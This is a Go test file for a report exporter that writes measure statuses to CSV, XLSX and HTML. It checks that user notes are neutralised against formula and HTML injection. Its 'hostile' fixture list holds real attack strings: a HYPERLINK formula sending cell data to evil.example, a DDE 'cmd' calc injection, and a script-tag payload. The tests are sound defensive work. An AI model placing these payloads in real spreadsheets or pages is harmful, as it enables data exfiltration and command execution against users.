package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"scoplan/data"
)

var (
	t0    = time.Date(2026, 11, 2, 9, 30, 0, 0, time.UTC)
	today = data.Date{Year: 2026, Month: 11, Day: 23}
)

// hostile are notes a delegate might write, or an attacker might send.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+1+2",
	"-2-3",
	"@SUM(A1:A9)",
	"\tcmd|' /C calc'!A0",
	"\rnext",
	`<script>alert("x")</script> & <b>bold</b> 'quoted'`,
	"海关合作：草案已分发\n第二行",
}

func id(n int) string { return fmt.Sprintf("%032x", n) }

// items builds every measure's state: statuses on some, a conflict within
// the Russian delegation on 1.1.2,
// the hostile notes on 1.1.1 (by an author with a hostile name).
func items(t testing.TB) []Item {
	t.Helper()
	plan := data.Load()
	byMeasure := map[string][]*data.Change{}
	n := 0
	add := func(c *data.Change) {
		n++
		c.ID, c.Time, c.Clock = id(n), t0.Add(time.Duration(n)*time.Minute), uint64(n)
		if c.Author == "" {
			c.Author, c.Name, c.Delegation = "aaaaaaaaaaaaaaaa", "Anna", "Russia"
		}
		if err := c.Validate(); err != nil {
			t.Fatal(err)
		}
		byMeasure[c.Measure] = append(byMeasure[c.Measure], c)
	}
	for i, m := range plan.Measures {
		if i%3 == 0 {
			add(&data.Change{Kind: data.ChangeStatus, Measure: m.ID, Status: data.Statuses[i%4]})
		}
	}
	add(&data.Change{Kind: data.ChangeStatus, Measure: "1.1.2", Status: data.StatusDone})
	add(&data.Change{Kind: data.ChangeStatus, Measure: "1.1.2", Status: data.StatusBlocked, Author: "bbbbbbbbbbbbbbbb", Name: "=Bolat", Delegation: "Russia"})
	// Kazakhstan reports on two measures; someone with no delegation on one.
	add(&data.Change{Kind: data.ChangeStatus, Measure: "1.1.1", Status: data.StatusDone, Author: "cccccccccccccccc", Name: "Aigerim", Delegation: "KZ"})
	add(&data.Change{Kind: data.ChangeStatus, Measure: "1.1.3", Status: data.StatusBlocked, Author: "cccccccccccccccc", Name: "Aigerim", Delegation: "KZ"})
	add(&data.Change{Kind: data.ChangeStatus, Measure: "1.1.3", Status: data.StatusInProgress, Author: "dddddddddddddddd", Name: "Nobody", Delegation: ""})
	for _, text := range hostile {
		add(&data.Change{Kind: data.ChangeNoteAdd, Measure: "1.1.1", Text: text, Author: "bbbbbbbbbbbbbbbb", Name: "-Bolat <b>", Delegation: "@Moscow <x>"})
	}
	var out []Item
	for _, m := range plan.Measures {
		out = append(out, Item{Measure: m, State: data.DeriveFor(byMeasure[m.ID], "RU")}) // the report of a Russian delegate
	}
	return out
}

func build(t *testing.T, lang data.Lang) *Report {
	return Build(items(t), Options{Texts: data.In(lang), Today: today, Generated: t0, Scope: "<all> & everything"})
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{"=1": "'=1", "+1": "'+1", "-1": "'-1", "@x": "'@x", "\tx": "'\tx", "\rx": "'\rx",
		"": "", "plain": "plain", "1-2": "1-2", "草案": "草案", "'=x": "'=x"} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVReadsBack(t *testing.T) {
	for _, lang := range []data.Lang{data.Chinese, data.English} {
		b, err := build(t, lang).CSV()
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.HasPrefix(b, []byte("\xef\xbb\xbf")) {
			t.Fatalf("%s: no BOM", lang)
		}
		recs, err := csv.NewReader(bytes.NewReader(b[3:])).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 78 {
			t.Fatalf("%s: %d records", lang, len(recs))
		}
		head := recs[0]
		col := map[string]int{}
		for i, h := range head {
			col[h] = i
		}
		_, hasSource := col["Source text (Chinese)"]
		if hasSource != (lang != data.Chinese) {
			t.Errorf("%s: source column present = %v", lang, hasSource)
		}
		plan := data.Load()
		for i, rec := range recs[1:] {
			m := plan.Measures[i]
			if len(rec) != len(head) || rec[col["ID"]] != m.ID {
				t.Fatalf("%s: row %d: %v", lang, i, rec[:2])
			}
			if hasSource && rec[col["Source text (Chinese)"]] != m.Text {
				t.Errorf("%s: %s source text differs", lang, m.ID)
			}
			if lang == data.Chinese && rec[col["Measure"]] != m.Text {
				t.Errorf("%s: %s text differs", lang, m.ID)
			}
			for _, cell := range rec {
				if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
					t.Errorf("%s: %s: cell %q is not neutralized", lang, m.ID, cell)
				}
			}
		}
		// encoding/csv reads a lone CR inside a field as a line end.
		notes := strings.ReplaceAll(recs[1][col["Note texts"]], "\r", "")
		for _, h := range hostile {
			if !strings.Contains(notes, strings.ReplaceAll(Neutralize(h), "\r", "")) {
				t.Errorf("%s: note %q missing", lang, h)
			}
		}
		if recs[2][col["Status conflict"]] != "yes" || !strings.Contains(recs[2][col["Competing statuses"]], "=Bolat ("+data.DelegationLabel("RU", string(lang))+")") {
			t.Errorf("%s: conflict row %v", lang, recs[2])
		}
	}
}

func TestXLSXReadsBack(t *testing.T) {
	b, err := build(t, data.English).XLSX()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); len(got) != 3 || got[0] != "Measures" || got[1] != "Notes" || got[2] != "Matrix" {
		t.Fatalf("sheets %v", got)
	}
	rows, err := f.GetRows("Measures")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 78 || rows[0][0] != "ID" || rows[1][0] != "1.1.1" || rows[77][0] != data.Load().Measures[76].ID {
		t.Fatalf("%d rows, first %v", len(rows), rows[0])
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	if rows[1][col["Source text (Chinese)"]] != data.Load().Measure("1.1.1").Text {
		t.Errorf("source text column")
	}
	// Frozen header and an autofilter on both sheets.
	for _, sheet := range []string{"Measures", "Notes"} {
		p, err := f.GetPanes(sheet)
		if err != nil || !p.Freeze || p.YSplit != 1 {
			t.Errorf("%s: panes %+v %v", sheet, p, err)
		}
	}
	names := f.GetDefinedName()
	filters := 0
	for _, n := range names {
		if n.Name == "_xlnm._FilterDatabase" {
			filters++
		}
	}
	if filters != 2 {
		t.Errorf("autofilters: %+v", names)
	}
	// The status cells are coloured by status.
	for i, m := range data.Load().Measures[:8] {
		st := data.Derive(nil).Status
		if i%3 == 0 {
			st = data.Statuses[i%4]
		}
		if m.ID == "1.1.2" {
			st = data.StatusBlocked
		}
		cell, _ := excelize.CoordinatesToCellName(col["Status"]+1, i+2)
		sid, _ := f.GetCellStyle("Measures", cell)
		style, err := f.GetStyle(sid)
		if err != nil || len(style.Fill.Color) != 1 || !strings.EqualFold(style.Fill.Color[0], statusColours[st]) {
			t.Errorf("%s (%s): fill %+v", m.ID, st, style)
		}
	}
	notes, _ := f.GetRows("Notes")
	if len(notes) != 1+len(hostile) {
		t.Fatalf("notes sheet has %d rows", len(notes))
	}
	// The text is the note's own, unchanged (no visible apostrophe); text
	// that would read as a formula if edited carries the quote prefix.
	prefixed := quotePrefixed(t, b)
	for i, h := range hostile {
		got := notes[i+1][6]
		if got != h && strings.ReplaceAll(got, "\r", "") != strings.ReplaceAll(h, "\r", "") {
			t.Errorf("note %d: %q, want %q", i, got, h)
		}
		cell, _ := excelize.CoordinatesToCellName(7, i+2)
		if sid, _ := f.GetCellStyle("Notes", cell); prefixed[sid] != risky(h) {
			t.Errorf("note %d (%q): quote prefix %v", i, h, prefixed[sid])
		}
		if notes[i+1][1] != "-Bolat <b>" || notes[i+1][2] != "@Moscow <x>" {
			t.Errorf("author cells %q %q", notes[i+1][1], notes[i+1][2])
		}
		for c := 2; c <= 3; c++ {
			cell, _ := excelize.CoordinatesToCellName(c, i+2)
			if sid, _ := f.GetCellStyle("Notes", cell); !prefixed[sid] {
				t.Errorf("author cell %s has no quote prefix", cell)
			}
		}
	}
	// No cell is a formula.
	for _, sheet := range []string{"Measures", "Notes"} {
		rows, _ := f.GetRows(sheet)
		for r := range rows {
			for c := range rows[r] {
				name, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fm, _ := f.GetCellFormula(sheet, name); fm != "" {
					t.Errorf("%s!%s is a formula: %q", sheet, name, fm)
				}
			}
		}
	}
}

func TestHTMLEscapesEverything(t *testing.T) {
	b, err := build(t, data.Russian).HTML()
	if err != nil {
		t.Fatal(err)
	}
	doc, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	var texts []string
	var walk func(n *html.Node)
	elements := map[string]int{}
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			elements[n.Data]++
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || strings.Contains(a.Val, "javascript:") {
					t.Errorf("attribute %s=%q", a.Key, a.Val)
				}
				if (a.Key == "src" || a.Key == "href") && a.Val != "" {
					t.Errorf("external reference %s=%q: the page must be self-contained", a.Key, a.Val)
				}
			}
		}
		if n.Type == html.TextNode {
			texts = append(texts, n.Data)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	if elements["script"] != 0 || elements["b"] != 0 || elements["link"] != 0 || elements["img"] != 0 {
		t.Errorf("elements from user text or external parts: %v", elements)
	}
	if elements["tr"] != 78+79 { // the measures, and the matrix with its totals

		t.Errorf("%d table rows", elements["tr"])
	}
	all := strings.Join(texts, "\x00")
	for _, h := range append(hostile, "-Bolat <b>", "<all> & everything", "=Bolat (Россия)", "@Moscow <x>", data.Load().Measure("3.1.1").Text) {
		if !strings.Contains(all, strings.ReplaceAll(h, "\r", "\n")) && !strings.Contains(all, h) {
			t.Errorf("text %q is not shown as text", h)
		}
	}
	if !strings.Contains(string(b), "&lt;script&gt;") || !strings.Contains(string(b), `<html lang="ru">`) {
		t.Errorf("escaping or language missing")
	}
	if !strings.Contains(all, data.In(data.Russian).Measure(data.Load().Measure("1.1.1"))) {
		t.Errorf("Russian text missing")
	}
}

func TestOverviewCounts(t *testing.T) {
	r := build(t, data.Chinese)
	total := 0
	for _, st := range data.Statuses {
		total += r.Overview.Total.ByStatus[st]
	}
	if total != 77 || r.Overview.Total.All != 77 || len(r.Overview.Chapters) != 3 || r.Overview.Total.Conflicts != 1 {
		t.Errorf("overview %+v", r.Overview.Total)
	}
	sum := 0
	for _, c := range r.Overview.Chapters {
		sum += c.All
	}
	if sum != 77 {
		t.Errorf("chapters add up to %d", sum)
	}
	// Labels pass through Options.Label.
	loud := Build(items(t)[:1], Options{Label: strings.ToUpper, Today: today})
	b, _ := loud.CSV()
	if !bytes.Contains(b, []byte("ID,CHAPTER,SECTION,MEASURE")) {
		t.Errorf("labels not translated: %q", b[:60])
	}
}

// quotePrefixed reads which cell formats of a workbook carry the quote
// prefix, by style ID (the n-th <xf> of <cellXfs>).
func quotePrefixed(t *testing.T, workbook []byte) map[int]bool {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(workbook), int64(len(workbook)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if zf.Name != "xl/styles.xml" {
			continue
		}
		rc, _ := zf.Open()
		b, _ := io.ReadAll(rc)
		rc.Close()
		m := cellXfsRe.FindSubmatch(b)
		if m == nil {
			t.Fatal("no cellXfs")
		}
		out := map[int]bool{}
		for i, xf := range regexp.MustCompile(`<xf\b[^>]*>`).FindAll(m[1], -1) {
			out[i] = bytes.Contains(xf, []byte(`quotePrefix="1"`))
		}
		return out
	}
	t.Fatal("no styles.xml")
	return nil
}
